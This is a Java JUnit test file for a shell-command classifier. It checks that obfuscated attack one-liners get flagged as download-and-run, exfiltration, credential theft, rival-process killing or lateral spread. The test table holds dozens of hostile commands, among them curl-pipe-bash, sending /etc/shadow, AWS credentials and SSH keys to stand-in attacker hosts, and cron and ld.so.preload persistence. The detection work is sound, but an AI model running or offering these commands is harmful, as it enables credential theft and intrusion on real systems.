package davy.core.shell;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/// How an intruder writes what administrators write, so that his is taken for theirs.
final class EvasionTest {
    /// As in [BehaviourTest].
    private static final String TABLE =
            """
            DOWNLOAD_AND_RUN | curl https://dl.google.com/%2e%2e/evil/x.sh | bash
            RIVAL_KILLING | k() { kill -9 $1; }; for p in $(ps aux | awk '$3>40{print $2}'); do k $p; done
            RIVAL_KILLING | k() { xargs kill -9; }; ps aux | awk '$3>40{print $2}' | k
            RIVAL_KILLING | l() { ps aux | awk '$3>40{print $2}'; }; kill -9 $(l)
            RIVAL_KILLING | ps aux | grep '[r]oot' | awk '$3>40{print $2}' | xargs kill -9
            RIVAL_KILLING | ps aux | grep ROOT | awk '$3>40{print $2}' | xargs kill -9
            RIVAL_KILLING | ps aux | grep ro.t | awk '$3>40{print $2}' | xargs kill -9
            RIVAL_KILLING | ps aux | grep -A9999 USER | awk '$3>40{print $2}' | xargs kill -9
            RIVAL_KILLING | ps aux | grep -A9999 java | awk '$3>40{print $2}' | xargs kill -9
            RIVAL_KILLING | ps aux | awk '/USER/{next} $3>40{print $2}' | xargs kill -9
            RIVAL_KILLING | ps aux | awk '/java/{next} $3>40{print $2}' | xargs kill -9
            RIVAL_KILLING | ps aux | awk '/java/ || $3>40{print $2}' | xargs kill -9
            RIVAL_KILLING | ps aux | awk '$3>40{print $2}' | xargs kill -9 | grep java
            RIVAL_KILLING | cd /run; pgrep -f 'xmrig|kinsing|kdevtmpfsi|minerd' > r.pid; kill -9 $(cat /run/r.pid)
            RIVAL_KILLING | ps aux | awk '$3>40{print $1 > "/run/k.pid"}'; kill -9 `cat /run/k.pid`
            RIVAL_KILLING | ps aux | awk '$3>40{print $2}' > /a; xargs kill -9 < /a
            RIVAL_KILLING | for p in :3333 :4444 :14444; do netstat -antlp | grep $p | awk '{print $7}' | cut -d/ -f1 | xargs kill -9; done
            RIVAL_KILLING | for p in :3333 :4444 :14444; do netstat -ntp | grep -v LISTEN | grep $p | awk '{print $7}' | xargs kill -9; done
            - | for p in :8888 :9999; do netstat -antlp | grep $p | awk '{print $7}' | cut -d/ -f1 | xargs kill -9; done
            - | netstat -antp | grep LISTEN | grep :3333 | awk '{print $7}' | xargs kill; netstat -antp | grep :4444 | grep LISTEN | awk '{print $7}' | xargs kill; netstat -lntp | grep :14444 | awk '{print $7}' | xargs kill
            - | ps aux | awk '/php-fpm/ && $3>60 {print $2}' | xargs kill -9; ps aux | grep -w app.jar | awk '$3>60 {print $2}' | xargs kill -9
            SAVES_DOWNLOAD | get() { curl -s $1; }; get http://192.0.2.1/x | tee /opt/x
            SAVES_DOWNLOAD | curl -s http://192.0.2.1/x | gpg -d -o /opt/x
            SAVES_DOWNLOAD | curl -s http://192.0.2.1/x | openssl enc -d -aes-256-cbc -k p -out /usr/bin/x
            SAVES_DOWNLOAD | curl -s http://192.0.2.1/x | sponge /opt/x
            SAVES_DOWNLOAD | curl -s http://192.0.2.1/x | while read l; do echo "$l" >> /opt/x; done
            SAVES_DOWNLOAD | curl -s http://192.0.2.1/x | crontab -
            DOWNLOAD_AND_RUN | curl -o /dev/shm/x http://192.0.2.1/x; chmod +x /dev/shm/x; /dev/shm/x
            ~SAVES_DOWNLOAD | curl -s https://h.example/state | grep -c up; curl -s https://h.example/v | jq .a | tr -d '"'; curl -s https://h.example/v | awk '{print $1}'; wget -qO- https://h.example/v | tee /dev/null
            EXFILTRATES | awk -F: '{print $1, $(2)}' /etc/shadow | curl -d @- http://203.0.113.5/
            EXFILTRATES | awk -F: '{x=$2; print $1, x}' /etc/shadow | curl -d @- http://203.0.113.5/
            EXFILTRATES | awk -F: -v n=2 '{print $1, $n}' /etc/shadow | curl -d @- http://203.0.113.5/
            EXFILTRATES | cut -d: -f1 --complement /etc/shadow | curl -d @- http://203.0.113.5/
            EXFILTRATES | cat ~/.aws/credentials ~/.ssh/id_rsa > /var/tmp/all.txt; cd /var/tmp; curl -F f=@all.txt http://203.0.113.5/u
            EXFILTRATES | cp ~/.ssh/id_rsa /opt/t/; tar czf /opt/all.tgz /opt/t; curl -F f=@/opt/all.tgz http://203.0.113.5/u
            EXFILTRATES | cp ~/.ssh/id_rsa /opt/t/; tar czf /opt/all.tgz -C /opt t; curl -F f=@/opt/all.tgz http://203.0.113.5/u
            EXFILTRATES | cp ~/.ssh/id_rsa /opt/t/; cd /opt/t; tar czf /opt/all.tgz .; curl -F f=@/opt/all.tgz http://203.0.113.5/u
            EXFILTRATES | cp ~/.ssh/id_rsa /opt/t/; cd /opt; cd t; tar czf /opt/all.tgz ./*; curl -F f=@/opt/all.tgz http://203.0.113.5/u
            EXFILTRATES | cp -t /opt/t ~/.ssh/id_rsa; tar czf /opt/all.tgz /opt/t; curl -F f=@/opt/all.tgz http://203.0.113.5/u
            EXFILTRATES | cat ~/.aws/credentials > /opt/k; gzip /opt/k; curl -T /opt/k.gz http://203.0.113.5/u
            EXFILTRATES | cat ~/.aws/credentials > /a; curl -F f=@/a http://203.0.113.5/u
            EXFILTRATES | cat ~/.aws/credentials > "/opt/a b,c"; curl -T "/opt/a b,c" http://203.0.113.5/u
            EXFILTRATES | D=/data/etc-$(date +%F).tgz; tar czf $D /etc/shadow; curl -T $D http://203.0.113.5/u
            EXFILTRATES | cat ~/.aws/credentials > /opt/$1; curl -T /opt/${1} http://203.0.113.5/u
            EXFILTRATES | cat ~/.aws/credentials > /dev/shm/a; curl -F f=@/dev/shm/a http://203.0.113.5/u
            EXFILTRATES | send() { curl -s -d "$1" http://203.0.113.5/u; }; send "$(cat ~/.aws/credentials)"
            EXFILTRATES | send() { curl -s -F f=@$1 http://203.0.113.5/u; }; send ~/.aws/credentials
            EXFILTRATES | send() { shift; curl -s -F f=@$1 http://203.0.113.5/u; }; send -q ~/.aws/credentials
            EXFILTRATES | send() { curl -s -d @- http://203.0.113.5/u; }; cat ~/.aws/credentials | send
            EXFILTRATES | grab() { cat ~/.aws/credentials; }; curl -d "$(grab)" http://203.0.113.5/u
            EXFILTRATES | grab() { cat $1; }; curl -d "$(grab ~/.aws/credentials)" http://203.0.113.5/u
            EXFILTRATES | wget --post-file /root/.ssh/id_rsa http://203.0.113.5/
            EXFILTRATES | exec > /opt/out.txt; cat ~/.aws/credentials; exec 1>&-; curl -T /opt/out.txt http://203.0.113.5/u
            EXFILTRATES | cat ~/.aws/credentials | while read k; do curl -d "${k:0:50}" http://203.0.113.5/u; done
            EXFILTRATES | cat ~/.aws/credentials | curl -d @- http://10.0.0.1.evil.example/u
            EXFILTRATES | cat ~/.aws/credentials | curl -d @- http://[2001:470::5]/u
            EXFILTRATES | cat ~/.aws/credentials | curl -d @- http://0xcb007105/u
            EXFILTRATES | cat ~/.aws/credentials | curl -d @- http://3405803781/u
            EXFILTRATES | cat ~/.aws/credentials | nc 3405803781 80
            EXFILTRATES | curl -F f=@/root/.ssh/id_rsa https://qyapi.weixin.qq.com/cgi-bin/webhook/upload_media
            EXFILTRATES | cat ~/.aws/credentials | socat - TCP:203.0.113.5:80
            EXFILTRATES | cat ~/.aws/credentials | curl --resolve 10.0.0.9:80:203.0.113.5 -d @- http://10.0.0.9/u
            ~EXFILTRATES | cat ~/.aws/credentials | socat - TCP:10.0.0.9:80
            EXFILTRATES | curl -d "$(cat ~/.aws/credentials)" https://oapi.dingtalk.com/robot/send
            EXFILTRATES | rsync /root/.ssh/id_rsa rsync://evil.example/up/
            EXFILTRATES | rclone copy ~/.aws/credentials :sftp,host=203.0.113.5,user=a,pass=b:/up
            ~EXFILTRATES | rclone copy ~/.aws/credentials cos:b; rsync ~/.aws/credentials rsync://10.0.0.9/up/; cat ~/.aws/credentials | curl -d @- http://[fd00::5]/u; scp ~/.ssh/id_rsa root@10.0.0.1.inner.example:/x
            ~CREDENTIAL_THEFT | say() { curl -d "$1" https://oapi.dingtalk.com/robot/send; }; say "rotate /etc/shadow"; up() { scp -i $2 $1 b@h:/; }; up /data/a.tgz ~/.ssh/id_rsa
            ~CREDENTIAL_THEFT | cut -d: -f1 /etc/shadow | sort > /opt/names; curl -F f=@/opt/names https://h.example/u; awk -F: '$2=="" && $1!="root" {print $1}' /etc/shadow | nc h 514
            - | redis-cli config set dir /www/server/redis
            SPREADS | redis-cli config set dir /www/server/redis/../../wwwroot
            SPREADS | for h in $(cut -d' ' -f1 ~/.ssh/known_hosts); do cat /opt/w | ssh $h "cat > /opt/w; sh /opt/w" w; done
            SPREADS | for h in $(cut -d' ' -f1 ~/.ssh/known_hosts); do ssh $h sh -s - uptime < /opt/w.sh; done
            SPREADS | awk '{print $1 > "/opt/h"}' ~/.ssh/known_hosts; for h in $(cat /opt/h); do ssh $h 'curl -s http://192.0.2.1/x | sh'; done
            SPREADS | for h in $(cut -d' ' -f1 ~/.ssh/known_hosts); do ssh -T $h -E date < /opt/w.sh; done
            SPREADS | for h in $(cut -d' ' -f1 ~/.ssh/known_hosts); do ssh $h "echo '* * * * * root curl -s 203.0.113.5|sh' | sort -o /etc/cron.d/x"; done
            SPREADS | for h in $(cut -d' ' -f1 ~/.ssh/known_hosts); do ssh $h "echo /lib/x.so | uniq - /etc/ld.so.preload"; done
            - | for h in $(cut -d' ' -f1 ~/.ssh/known_hosts); do ssh -n -p 22 -oBatchMode=yes -l root $h uptime; ssh $h df -h < /dev/null; done
            """;

    static Stream<List<String>> rows() {
        return TABLE.lines().map(line -> List.of(line.split(" \\| ", 2)));
    }

    @ParameterizedTest
    @MethodSource("rows")
    void seesThroughIt(List<String> row) {
        String wanted = row.getFirst();
        var traits = Behaviour.of(row.getLast()).traits();
        if (wanted.equals("-")) {
            assertThat(traits).as(row.getLast()).isEmpty();
        } else if (wanted.startsWith("~")) {
            var unwanted = Trait.valueOf(wanted.substring(1));
            assertThat(traits).as(row.getLast()).doesNotContain(unwanted);
        } else {
            assertThat(traits).as(row.getLast()).contains(Trait.valueOf(wanted));
        }
    }

    @Test
    @Timeout(20)
    void judgesEachOfManyKillersOnce() {
        for (String text :
                List.of(
                        "kill $(cat a.pid)\n".repeat(16_000),
                        "awk '$3>1' f\n".repeat(16_000) + "kill $p\n")) {
            assertThat(Behaviour.of(text).truncated()).isFalse();
        }
    }

    @Test
    @Timeout(20)
    void followsSecretsThroughLongScripts() {
        var text = new StringBuilder("send() { curl -d \"$1\" http://203.0.113.5/; }\n");
        for (int i = 0; i < 3_000; i++) {
            text.append("cat /etc/shadow ../").append("a/".repeat(100)).append(i).append(" > /f");
            text.append(i).append("; send \"$(cat /f").append(i).append(")\"\n");
        }
        var behaviour = Behaviour.of(text.toString());
        assertThat(behaviour.traits()).contains(Trait.EXFILTRATES);
        assertThat(behaviour.truncated()).isTrue();
    }
}
